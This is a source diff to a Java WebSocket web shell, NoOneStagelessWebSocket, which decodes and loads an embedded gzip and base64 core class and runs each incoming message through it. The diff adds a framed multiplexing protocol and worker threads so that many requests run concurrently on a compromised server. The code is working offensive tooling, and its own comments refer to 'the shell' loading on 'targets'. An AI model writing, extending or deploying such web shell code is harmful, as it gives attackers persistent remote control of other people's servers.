@@ -10,20 +10,42 @@ import java.lang.reflect.Method;
 import java.net.URL;
 import java.net.URLClassLoader;
 import java.nio.ByteBuffer;
+import java.util.LinkedList;
 import java.util.zip.GZIPInputStream;
 
 /**
  * @author ReaJason
  * @since 2025/5/9
  */
-public class NoOneStagelessWebSocket extends Endpoint implements MessageHandler.Whole<ByteBuffer> {
+public class NoOneStagelessWebSocket extends Endpoint implements MessageHandler.Whole<ByteBuffer>, Runnable {
     private Session session;
+    private NoOneStagelessWebSocket muxOwner;
+    private byte[] muxRequest;
+    private final LinkedList<byte[]> muxQueue = new LinkedList<byte[]>();
+    private int muxWorkers;
     private static Class<?> coreClass = null;
     private static String coreGzipBase64;
 
+    /**
+     * Framed messages: "NOMX" | type | id (big-endian int) | body. Mirrors the client's MultiplexFrame.
+     */
+    private static final byte MUX_HELLO = 0;
+    private static final byte MUX_HELLO_ACK = 1;
+    private static final byte MUX_DATA = 2;
+    private static final int MUX_HEADER_LENGTH = 9;
+    private static final int MUX_MAX_IN_FLIGHT = 32;
+
     @Override
     public void onMessage(ByteBuffer message) {
         byte[] msg = message.array();
+        if (isMuxFrame(msg)) {
+            onMuxFrame(msg);
+            return;
+        }
+        sendBinary(process(msg));
+    }
+
+    private byte[] process(byte[] msg) {
         try {
             if (coreClass == null) {
                 byte[] bytes = gzipDecompress(decodeBase64(coreGzipBase64));
@@ -33,13 +55,91 @@ public class NoOneStagelessWebSocket extends Endpoint implements MessageHandler.
             ByteArrayOutputStream outputStream = new ByteArrayOutputStream();
             Object httpChannelCore = coreClass.newInstance();
             httpChannelCore.equals(new Object[]{payload, outputStream});
-            byte[] result = wrapResData(transformResData(outputStream.toByteArray()));
-            session.getBasicRemote().sendBinary(ByteBuffer.wrap(result));
+            return wrapResData(transformResData(outputStream.toByteArray()));
         } catch (Throwable e) {
-            try {
-                session.getBasicRemote().sendBinary(ByteBuffer.wrap(getStackTraceAsString(e).getBytes()));
-            } catch (IOException ignored) {
+            return getStackTraceAsString(e).getBytes();
+        }
+    }
+
+    /**
+     * Answers a HELLO with the accepted window and runs DATA frames on worker threads, so a slow request does not
+     * hold up the ones behind it. The reply carries the request's id. At most {@link #MUX_MAX_IN_FLIGHT} workers run
+     * per connection, whatever the client sends; frames beyond the window wait in a queue that finishing workers
+     * drain. Workers are instances of this class rather than lambdas so the shell still loads on targets older than
+     * Java 8.
+     */
+    private void onMuxFrame(byte[] msg) {
+        byte type = msg[4];
+        if (type == MUX_HELLO) {
+            sendBinary(muxFrame(MUX_HELLO_ACK, new byte[4], new byte[]{0, 0, 0, (byte) MUX_MAX_IN_FLIGHT}));
+            return;
+        }
+        if (type != MUX_DATA) {
+            return;
+        }
+        // the container may reuse the message buffer once this handler returns
+        byte[] request = msg.clone();
+        synchronized (muxQueue) {
+            if (muxWorkers >= MUX_MAX_IN_FLIGHT) {
+                muxQueue.add(request);
+                return;
+            }
+            muxWorkers++;
+        }
+        NoOneStagelessWebSocket worker = new NoOneStagelessWebSocket();
+        worker.session = session;
+        worker.muxOwner = this;
+        worker.muxRequest = request;
+        Thread thread = new Thread(worker);
+        thread.setDaemon(true);
+        thread.start();
+    }
+
+    @Override
+    public void run() {
+        byte[] request = muxRequest;
+        while (request != null) {
+            byte[] id = new byte[4];
+            System.arraycopy(request, 5, id, 0, 4);
+            byte[] body = new byte[request.length - MUX_HEADER_LENGTH];
+            System.arraycopy(request, MUX_HEADER_LENGTH, body, 0, body.length);
+            sendBinary(muxFrame(MUX_DATA, id, process(body)));
+            synchronized (muxOwner.muxQueue) {
+                request = muxOwner.muxQueue.poll();
+                if (request == null) {
+                    muxOwner.muxWorkers--;
+                }
+            }
+        }
+    }
+
+    private boolean isMuxFrame(byte[] msg) {
+        return msg.length >= MUX_HEADER_LENGTH
+                && msg[0] == 'N' && msg[1] == 'O' && msg[2] == 'M' && msg[3] == 'X';
+    }
+
+    private byte[] muxFrame(byte type, byte[] id, byte[] body) {
+        byte[] frame = new byte[MUX_HEADER_LENGTH + body.length];
+        frame[0] = 'N';
+        frame[1] = 'O';
+        frame[2] = 'M';
+        frame[3] = 'X';
+        frame[4] = type;
+        System.arraycopy(id, 0, frame, 5, 4);
+        System.arraycopy(body, 0, frame, MUX_HEADER_LENGTH, body.length);
+        return frame;
+    }
+
+    /**
+     * The basic remote endpoint does not allow concurrent sends, and framed replies come from several threads.
+     * A send on a closed session fails quietly, so the worker still gives back its slot.
+     */
+    private void sendBinary(byte[] data) {
+        try {
+            synchronized (session) {
+                session.getBasicRemote().sendBinary(ByteBuffer.wrap(data));
             }
+        } catch (Exception ignored) {
         }
     }
 